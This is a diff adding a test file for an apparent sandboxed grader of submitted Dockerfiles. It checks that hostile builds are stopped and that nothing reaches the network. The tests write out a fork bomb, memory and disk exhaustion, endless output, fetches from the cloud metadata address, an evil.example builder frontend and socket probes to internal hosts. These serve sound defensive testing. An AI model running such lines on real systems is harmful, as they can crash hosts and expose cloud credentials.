@@ -1,0 +1,44 @@
+import { expect, test } from "vitest";
+import { gradeHostile } from "./bench.ts";
+
+const from = "FROM python:3.13-slim";
+
+test.each([
+  [
+    "a fork bomb",
+    'RUN python -c "import os; [os.fork() for _ in iter(int, 1)]"',
+    /more memory than its limit|1000 processes/,
+  ],
+  ["700 MB of memory", 'RUN python -c "x = bytearray(700 * 1024 * 1024)"', /more memory than its limit of 134 MB/],
+  ["a file of 20 GB", "RUN dd if=/dev/zero of=/big bs=1M count=20000", /limit of 400 MB on the disk/],
+  ["output without end", "RUN yes hostile", /limit of 32 MB of output/],
+  ["an address to add", "ADD http://169.254.169.254/latest/meta-data/ /x", /package index and Debian's mirror only/],
+])("a build with %s is stopped, and the reason says at what", async (_, line, why) => {
+  const { reason, seconds } = await gradeHostile({ "app.py": "", Dockerfile: `${from}\n${line}\n` }, [
+    "operations.builds",
+  ]);
+  expect(reason("operations.builds")).toMatch(/^failed/);
+  expect(reason("operations.builds")).toMatch(why);
+  expect(seconds).toBeLessThan(60);
+});
+
+test.each([
+  ["a registry of the candidate's choice", "FROM 169.254.169.254/x"],
+  ["another candidate's image", "FROM assay-submission:0000000000"],
+])("%s is not built upon, which costs nobody a point", async (_, line) => {
+  const { reason } = await gradeHostile({ "app.py": "", Dockerfile: `${line}\nRUN true\n` }, ["operations.builds"]);
+  expect(reason("operations.builds")).toMatch(/^inconclusive/);
+});
+
+test("whatever builder a Dockerfile asks for, its commands have no way out but the package index", async () => {
+  const reach = (host: string, port: number): string =>
+    `python -c "import socket; socket.create_connection(('${host}', ${port}), 2)" && echo REACHED ${host}`;
+  const lines = [
+    "# syntax=evil.example/frontend:1",
+    from,
+    `RUN --mount=type=cache,target=/root/.cache ${reach("172.17.0.1", 22)}; ${reach("169.254.169.254", 80)}; ${reach("1.1.1.1", 53)}; false`,
+  ];
+  const { card, reason } = await gradeHostile({ "app.py": "", Dockerfile: lines.join("\n") }, ["operations.builds"]);
+  expect(reason("operations.builds")).toMatch(/^(failed|inconclusive)/);
+  expect(JSON.stringify(card.checks)).not.toMatch(/\bREACHED \d/);
+});
